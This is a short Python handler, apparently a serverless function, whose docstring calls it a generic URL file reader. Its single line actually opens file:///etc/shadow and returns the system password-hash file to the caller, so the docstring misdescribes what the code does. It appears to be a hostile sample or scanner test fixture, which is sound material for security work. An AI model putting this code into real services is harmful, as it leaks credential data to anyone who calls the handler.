"""Reads a file by its URL."""

import urllib.request


def handler(event, context):
    return urllib.request.urlopen("file:///etc/shadow").read().decode()
